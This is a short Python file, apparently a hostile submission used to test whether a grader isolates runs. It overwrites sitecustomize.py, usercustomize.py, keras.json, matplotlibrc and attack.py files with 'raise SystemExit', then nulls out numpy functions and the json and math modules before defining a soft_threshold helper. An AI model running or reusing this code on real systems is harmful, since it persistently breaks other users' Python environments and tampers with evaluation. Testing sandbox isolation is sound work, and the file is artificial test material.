"""Leaves settings and caches that would change the next submission's world."""

import contextlib
import os
import site
import sys
import tempfile

import numpy as np

SCORES = "everything"
names = [
    os.path.expanduser("~/.keras/keras.json"),
    os.path.expanduser("~/.config/matplotlib/matplotlibrc"),
    f"{site.getusersitepackages()}/usercustomize.py",
    f"{tempfile.gettempdir()}/attack.py",
    f"{sys.prefix}/lib/attack.py",
    f"{site.getsitepackages()[0]}/sitecustomize.py",
]
for name in names:
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(name), exist_ok=True)
        with open(name, "w") as file:
            file.write("raise SystemExit")




kept = np.asarray, np.clip
np.clip = np.asarray = None
sys.modules["json"] = sys.modules["math"] = None


def soft_threshold(w, threshold):
    w = kept[0](w, float)
    return w - kept[1](w, -threshold, threshold)
